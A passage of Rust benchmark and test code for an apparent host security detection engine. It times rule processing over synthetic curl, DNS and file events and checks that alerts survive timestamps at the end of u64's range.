        ("connect_type", "connect"),
    ]);
    let dns = mk(&[
        ("data_type", "601"),
        ("exe", "/usr/bin/curl"),
        ("query", "deb.debian.org"),
    ]);
    let file = mk(&[
        ("data_type", "602"),
        ("exe", "/usr/bin/curl"),
        ("file_path", "/root/x.tar.gz"),
    ]);
    let mut mix = vec![exec];
    for _ in 0..10 {
        mix.push(connect.clone());
    }
    for _ in 0..5 {
        mix.push(dns.clone());
        mix.push(file.clone());
    }
    let mut out = Vec::new();
    // Built before the clock starts: what is timed is the engine alone.
    let n = 100_000;
    let events: Vec<Event> = (0..n)
        .map(|i| {
            let mut x = mix[i % mix.len()].clone();
            x.push("time", (1_000_000 + i as u64).to_string());
            x
        })
        .collect();
    let t = std::time::Instant::now();
    for x in &events {
        e.process(x, &mut out);
        out.clear();
    }
    let per = t.elapsed().as_nanos() as f64 / n as f64;
    let base = 0.0;
    println!(
        "engine: {:.0} ns/event with {} built-in rules ({} rule runs/event)",
        per - base,
        e.rules().count(),
        e.counters().rule_evaluations.load(Ordering::Relaxed) as f64 / n as f64
    );
}

/// A replayed file's `time` is whatever the file says: a time at the end of
/// u64's range must neither overflow a window (a panic in debug builds, a
/// wrapped window in release) nor lose the alerts of what it can still tell.
#[test]
fn times_at_the_end_of_u64_neither_overflow_nor_lose_alerts() {
    let rules = "rules:
- id: t
  name: T
  severity: high
  threshold:
    group_by: [from_ip]
    within: 60s
    count: 2
  condition: {field: data_type, equals: '6001'}
- id: s
  name: S
  severity: high
  sequence:
    by: [tgid]
    within: 5s
    steps:
    - condition: {field: data_type, equals: '42'}
    - condition: {field: data_type, equals: '59'}
- id: o
  name: O
  severity: low
  condition: {field: data_type, equals: '603'}
";
    let mut e = engine(
        &[rules],
        EngineConfig {
            suppress_ms: 10_000,
            ..Default::default()
        },
    );
    let end = u64::MAX;
    let out = run(
        &mut e,
        &[
            at(end - 1, &[("data_type", "6001"), ("from_ip", "10.0.0.1")]),
            at(end, &[("data_type", "6001"), ("from_ip", "10.0.0.1")]),
            at(end, &[("data_type", "42"), ("tgid", "7")]),
            at(end, &[("data_type", "59"), ("tgid", "7")]),
            at(end, &[("data_type", "603"), ("tgid", "8")]),
            at(end, &[("data_type", "603"), ("tgid", "8")]),
        ],
    );
    let ids: Vec<_> = out.iter().map(|a| a.get("rule_id").unwrap()).collect();
    assert_eq!(ids, ["t", "s", "o"], "{out:?}");
}
